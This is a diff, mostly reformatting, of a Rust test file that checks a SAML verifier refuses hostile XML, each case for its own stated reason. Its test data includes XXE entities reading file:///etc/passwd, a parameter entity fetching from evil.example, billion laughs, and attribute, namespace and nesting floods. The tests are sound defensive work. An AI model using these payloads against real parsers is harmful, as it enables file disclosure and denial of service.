@@ -11,7 +11,8 @@ fn after_start(xml: &str, insert: &str) -> String {
 fn hostile_xml_is_refused_for_its_own_reason() {
     let good = honest();
     let doctype = |dtd: &str| format!("{dtd}{good}");
-    let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(good.encode_utf16().flat_map(u16::to_le_bytes)).collect();
+    let utf16: Vec<u8> =
+        [0xff, 0xfe].into_iter().chain(good.encode_utf16().flat_map(u16::to_le_bytes)).collect();
     let mut latin1 = good.clone().into_bytes();
     let at = good.find("ada@").unwrap();
     latin1[at] = 0xe4;
@@ -29,42 +30,130 @@ fn hostile_xml_is_refused_for_its_own_reason() {
             attack("not xml", "SAMLResponse", Reason::NotWellFormed),
             attack("utf-16", utf16, Reason::NotUtf8),
             attack("latin-1 bytes", latin1, Reason::NotUtf8),
-            attack("latin-1 declared", format!("<?xml version='1.0' encoding='ISO-8859-1'?>{good}"), Reason::NotUtf8),
-            attack("utf-7 declared", format!("<?xml version='1.0' encoding='UTF-7'?>{good}"), Reason::NotUtf8),
+            attack(
+                "latin-1 declared",
+                format!("<?xml version='1.0' encoding='ISO-8859-1'?>{good}"),
+                Reason::NotUtf8,
+            ),
+            attack(
+                "utf-7 declared",
+                format!("<?xml version='1.0' encoding='UTF-7'?>{good}"),
+                Reason::NotUtf8,
+            ),
             attack("xml 1.1", format!("<?xml version='1.1'?>{good}"), Reason::XmlVersionUnsupported),
             attack("doctype, empty", doctype("<!DOCTYPE r>"), Reason::DoctypeForbidden),
-            attack("doctype with external subset", doctype("<!DOCTYPE r SYSTEM 'file:///etc/passwd'>"), Reason::DoctypeForbidden),
-            attack("xxe", doctype("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"), Reason::DoctypeForbidden),
+            attack(
+                "doctype with external subset",
+                doctype("<!DOCTYPE r SYSTEM 'file:///etc/passwd'>"),
+                Reason::DoctypeForbidden,
+            ),
+            attack(
+                "xxe",
+                doctype("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"),
+                Reason::DoctypeForbidden,
+            ),
             attack("billion laughs", doctype(laughs), Reason::DoctypeForbidden),
             attack("doctype in the middle", after_start(&good, "<!DOCTYPE r>"), Reason::DoctypeForbidden),
-            attack("parameter entity", doctype("<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.example/'>%x;]>"), Reason::DoctypeForbidden),
+            attack(
+                "parameter entity",
+                doctype("<!DOCTYPE r [<!ENTITY % x SYSTEM 'http://evil.example/'>%x;]>"),
+                Reason::DoctypeForbidden,
+            ),
             attack("undeclared entity", swap(&good, "ada@example.org", "&ada;"), Reason::EntityForbidden),
-            attack("processing instruction", after_start(&good, "<?php evil ?>"), Reason::ProcessingInstructionForbidden),
-            attack("processing instruction in a value", swap(&good, "ada@example.org", "ada@<?x?>example.org"), Reason::ProcessingInstructionForbidden),
+            attack(
+                "processing instruction",
+                after_start(&good, "<?php evil ?>"),
+                Reason::ProcessingInstructionForbidden,
+            ),
+            attack(
+                "processing instruction in a value",
+                swap(&good, "ada@example.org", "ada@<?x?>example.org"),
+                Reason::ProcessingInstructionForbidden,
+            ),
             attack("nested 10 000 deep", after_start(&good, &nested), Reason::TooDeep),
-            attack("10 000 attributes", after_start(&good, &format!("<x{many}/>")), Reason::TooManyAttributes),
-            attack("42 000 attributes on 700 elements", after_start(&good, &attributes), Reason::TooManyAttributes),
-            attack("a megabyte of namespaces", after_start(&good, &format!("<x{namespaces}/>")), Reason::TooManyNamespaces),
-            attack("25 000 namespaces on as many elements", after_start(&good, &spread), Reason::TooManyElements),
+            attack(
+                "10 000 attributes",
+                after_start(&good, &format!("<x{many}/>")),
+                Reason::TooManyAttributes,
+            ),
+            attack(
+                "42 000 attributes on 700 elements",
+                after_start(&good, &attributes),
+                Reason::TooManyAttributes,
+            ),
+            attack(
+                "a megabyte of namespaces",
+                after_start(&good, &format!("<x{namespaces}/>")),
+                Reason::TooManyNamespaces,
+            ),
+            attack(
+                "25 000 namespaces on as many elements",
+                after_start(&good, &spread),
+                Reason::TooManyElements,
+            ),
             attack("30 000 elements", after_start(&good, &elements), Reason::TooManyElements),
-            attack("over a mebibyte", after_start(&good, &" ".repeat(limits::MESSAGE_BYTES)), Reason::MessageTooLarge),
+            attack(
+                "over a mebibyte",
+                after_start(&good, &" ".repeat(limits::MESSAGE_BYTES)),
+                Reason::MessageTooLarge,
+            ),
             attack("second root", format!("{good}{good}"), Reason::NotWellFormed),
             attack("trailing garbage", format!("{good}garbage"), Reason::NotWellFormed),
             attack("truncated", &good[..good.len() / 2], Reason::NotWellFormed),
             attack("mismatched tags", swap(&good, "</samlp:Status>", "</samlp:Stat>"), Reason::NotWellFormed),
             attack("unbound prefix", after_start(&good, "<evil:x/>"), Reason::NotWellFormed),
-            attack("duplicate attribute", swap(&good, " Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\""), Reason::NotWellFormed),
+            attack(
+                "duplicate attribute",
+                swap(&good, " Version=\"2.0\"", " Version=\"2.0\" Version=\"2.0\""),
+                Reason::NotWellFormed,
+            ),
             attack("control character", swap(&good, "ada@", "ada&#0;@"), Reason::NotWellFormed),
-            attack("root is the assertion", cut(&good, "<saml:Assertion", "</saml:Assertion>"), Reason::UnexpectedRoot),
-            attack("root is an envelope", format!("<e:Envelope xmlns:e='urn:e'>{good}</e:Envelope>"), Reason::UnexpectedRoot),
-            attack("root of another namespace", good.replace("SAML:2.0:protocol", "SAML:1.0:protocol"), Reason::UnexpectedRoot),
-            attack("logout response", good.replace("samlp:Response", "samlp:LogoutResponse"), Reason::UnexpectedRoot),
+            attack(
+                "root is the assertion",
+                cut(&good, "<saml:Assertion", "</saml:Assertion>"),
+                Reason::UnexpectedRoot,
+            ),
+            attack(
+                "root is an envelope",
+                format!("<e:Envelope xmlns:e='urn:e'>{good}</e:Envelope>"),
+                Reason::UnexpectedRoot,
+            ),
+            attack(
+                "root of another namespace",
+                good.replace("SAML:2.0:protocol", "SAML:1.0:protocol"),
+                Reason::UnexpectedRoot,
+            ),
+            attack(
+                "logout response",
+                good.replace("samlp:Response", "samlp:LogoutResponse"),
+                Reason::UnexpectedRoot,
+            ),
             attack("ws-federation where saml is spoken", issue_rstr(&rstr()), Reason::UnexpectedRoot),
-            attack("same ID twice", swap(&good, "<samlp:Status>", "<samlp:Status ID=\"_r1-a\">"), Reason::DuplicateId),
-            attack("same Id twice", swap(&good, "<samlp:Status>", "<samlp:Status Id=\"_r1-a\">"), Reason::DuplicateId),
-            attack("same xml:id twice", swap(&good, "<samlp:Status>", "<samlp:Status xml:id=\"_r1-a\">"), Reason::DuplicateId),
-            attack("same prefixed id twice", swap(&good, "<samlp:Status>", "<samlp:Status xmlns:w=\"u\" w:id=\"_r1-a\">"), Reason::DuplicateId),
-            attack("response and assertion with one ID", honest().replace("_r1-a", "_r1"), Reason::DuplicateId),
+            attack(
+                "same ID twice",
+                swap(&good, "<samlp:Status>", "<samlp:Status ID=\"_r1-a\">"),
+                Reason::DuplicateId,
+            ),
+            attack(
+                "same Id twice",
+                swap(&good, "<samlp:Status>", "<samlp:Status Id=\"_r1-a\">"),
+                Reason::DuplicateId,
+            ),
+            attack(
+                "same xml:id twice",
+                swap(&good, "<samlp:Status>", "<samlp:Status xml:id=\"_r1-a\">"),
+                Reason::DuplicateId,
+            ),
+            attack(
+                "same prefixed id twice",
+                swap(&good, "<samlp:Status>", "<samlp:Status xmlns:w=\"u\" w:id=\"_r1-a\">"),
+                Reason::DuplicateId,
+            ),
+            attack(
+                "response and assertion with one ID",
+                honest().replace("_r1-a", "_r1"),
+                Reason::DuplicateId,
+            ),
         ],
         38,
     );
@@ -116,11 +205,15 @@ fn messages_just_within_the_bounds_are_judged() {
 fn a_canonical_form_that_explodes_is_refused() {
     let uri = "u".repeat(200_000);
     let inside = format!("<saml:Advice>{}</saml:Advice></saml:Assertion>", "<big:x/>".repeat(1_000));
-    let xml = response().unsigned().replacen("<samlp:Response", &format!("<samlp:Response xmlns:big=\"{uri}\""), 1);
+    let xml =
+        response().unsigned().replacen("<samlp:Response", &format!("<samlp:Response xmlns:big=\"{uri}\""), 1);
     let xml = swap(&xml, "</saml:Assertion>", &inside);
-    let message = with_custom_signature(&xml, b"", |info| info, |info| {
-        IDP_KEY.key.sign(gatehouse_saml::SignatureAlgorithm::RsaSha256, info).unwrap()
-    });
+    let message = with_custom_signature(
+        &xml,
+        b"",
+        |info| info,
+        |info| IDP_KEY.key.sign(gatehouse_saml::SignatureAlgorithm::RsaSha256, info).unwrap(),
+    );
     let refused = gatehouse_saml::verify_bytes(message.as_bytes(), &policy()).outcome.unwrap_err();
     assert_eq!(refused.reason, Reason::CanonicalFormTooLarge);
 }
